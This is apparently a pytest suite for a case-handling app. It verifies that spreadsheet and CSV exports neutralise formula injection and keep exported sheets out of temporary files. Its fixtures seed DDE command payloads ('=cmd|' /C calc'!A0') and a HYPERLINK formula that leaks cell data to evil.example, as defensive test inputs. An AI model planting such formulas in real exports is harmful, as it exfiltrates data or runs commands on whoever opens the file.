"""Everything that leaves the house as a sheet: what somebody typed is text in it and never a formula, whatever it begins with."""

import csv
import io
import tempfile
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.hostile.ground import BATCH_HEADER, FATHER, SON, Ground, done, open_ground
from tests.hostile.lines import read_lines
from tests.hostile.wire import Reply, as_json, form, multipart
from tests.rooms.county import AREA

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "=cmd|' /C calc'!A0")
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'
SHEETS = {line.path for line in read_lines() if line.path.endswith(".xlsx")} | {"/looks/export"}


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ground]:
    """The house, in which people are called by formulas."""
    with open_ground(tmp_path_factory.mktemp("exports")) as ground:
        roles = ("mother", "son", "daughter", "spouse", "sibling", "grandparent", "grandchild")
        rows = [
            ["close_relative_card", FORMULA, f"B-{n}-2026", f"{start}1+1", SON, FORMULA, FATHER, role]
            for n, (start, role) in enumerate(zip(STARTS, roles, strict=False))
        ]
        bad = [["close_relative_card", "销卡", "B-1", FORMULA, "1", FORMULA, FATHER, "father"]]
        sheet = multipart({"item": "kinship"}, "x.csv", written([BATCH_HEADER, *rows, *bad]))
        made = done(ground.send("asker", "POST", "/api/v1/batches", sheet)).json
        assert made["good"] == len(roles), made["errors"]
        ground.things["batch"] = made["id"]
        done(ground.send("asker", "POST", f"/batches/{ground.things['batch']}/confirm", form({"again": "yes"})))
        ground.assembly.runner().round()
        for n, start in enumerate(STARTS):
            person = {"area": AREA, "name": f"{start}1+1", "role": "member", "phone": f"139000103{n:02}", "place_in_order": n + 5}
            ground.send("keeper", "POST", "/api/v1/contacts", as_json(person))
        yield ground


def written(rows: Sequence[Sequence[str]]) -> bytes:
    """Rows as CSV: an office program would make formulas of them already while they are typed."""
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue().encode()


def cells(reply: Reply) -> list[str]:
    """Every cell of a workbook, formulas by their beginning."""
    book = load_workbook(io.BytesIO(done(reply).body))
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in found if cell.data_type == "f"] == [], "a formula"
    assert [cell.coordinate for cell in found if cell.hyperlink] == [], "a link"
    return [str(cell.value) for cell in found]


@pytest.mark.parametrize(
    ("who", "path"),
    [
        ("asker", "/api/v1/items/kinship/batch-template.xlsx"), ("asker", "/api/v1/batches/{batch}/results.xlsx"),
        ("asker", "/api/v1/batches/{batch}/bad-rows.xlsx"),
        ("asker", "/api/v1/bundles/kinds/close_relative_card/sheet.xlsx"), ("keeper", "/roster/blank.xlsx"),
        ("keeper", "/roster/sheet.xlsx"), ("reformer", "/reform/survey/units/bank/blank.xlsx"),
    ],
)  # fmt: skip
def test_no_cell_of_a_workbook_is_a_formula(ground: Ground, who: str, path: str) -> None:
    texts = cells(ground.send(who, "GET", path.format(**ground.things)))

    if not any(word in path for word in ("blank", "template", "kinds")):
        assert [text for text in texts if text.lstrip().startswith(("=", "+", "@"))], "what was typed is there, as text"


@pytest.mark.parametrize("path", sorted(SHEETS))
def test_no_workbook_lies_in_a_file_in_clear_while_it_is_written(
    ground: Ground, path: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """openpyxl puts every sheet into the folder for temporary files, and what a crash leaves there stays."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "nowhere"))  # a file there could not be made
    code = "close_relative_card" if "/bundles/" in path else "bank" if "/survey/" in path else "kinship"
    places = {"code": code, "batch_id": ground.things["batch"]}
    wanted = ("POST", path, form({"kind": "all", "form": "xlsx"})) if path == "/looks/export" else ("GET", path.format(**places))

    cells(
        ground.send(
            {"/looks": "supervisor", "/roster": "keeper", "/reform": "reformer"}.get(path[: path.find("/", 1)], "asker"), *wanted
        )
    )


def test_every_workbook_of_the_house_is_looked_at() -> None:
    """A new one fails here until it stands above."""
    api = {
        f"/api/v1/{path}.xlsx"
        for path in (
            "items/{code}/batch-template",
            "batches/{batch_id}/results",
            "batches/{batch_id}/bad-rows",
            "bundles/kinds/{code}/sheet",
        )
    }

    reform = {"/reform/savings.xlsx", "/reform/sources.xlsx", "/reform/survey/units/{code}/blank.xlsx"}
    assert SHEETS - api - reform == {"/roster/blank.xlsx", "/roster/sheet.xlsx", "/looks/export"}


def test_one_writer_makes_every_csv_of_the_house() -> None:
    """It knows what office programs calculate; whatever writes CSV by itself would have to know it too."""
    rooms = Path(__file__).parents[2]
    files = (file for file in rooms.rglob("*.py") if not {"tests", ".venv"} & set(file.relative_to(rooms).parts))
    writing = ("csv.writer", "csv.DictWriter")
    assert [str(f.relative_to(rooms)) for f in files if any(way in f.read_text(encoding="utf-8") for way in writing)] == [
        "storage/sheets/harmless_csv.py"
    ]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_the_trail_as_a_sheet_holds_no_formula(ground: Ground, kind: str) -> None:
    for n, start in enumerate(STARTS):
        act = "take" if n % 2 == 0 else "release"
        done(ground.send("clerk", "POST", f"/api/v1/cases/{ground.things['fresh']}/{act}", as_json({"note": f"{start}1+1"})))
    reply = ground.send("supervisor", "POST", "/looks/export", form({"person": "clerk", "kind": "all", "form": kind}))
    if kind == "xlsx":
        cells(reply)
        return
    text = done(reply).body.decode("utf-8-sig")
    found = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in found if cell.lstrip()[:1] and cell.lstrip()[0] in "=+-@＝＋－＠"] == []
    assert len([cell for cell in found if "1+1" in cell]) >= 7, "what was noted is there"


def test_a_sheet_is_a_file_to_keep_and_is_never_shown_as_a_page(ground: Ground) -> None:
    for path in ("/roster/sheet.xlsx", "/roster/blank.xlsx"):
        reply = ground.send("keeper", "GET", path)
        assert reply.header("content-disposition").startswith("attachment;")
        assert reply.header("x-content-type-options") == "nosniff"
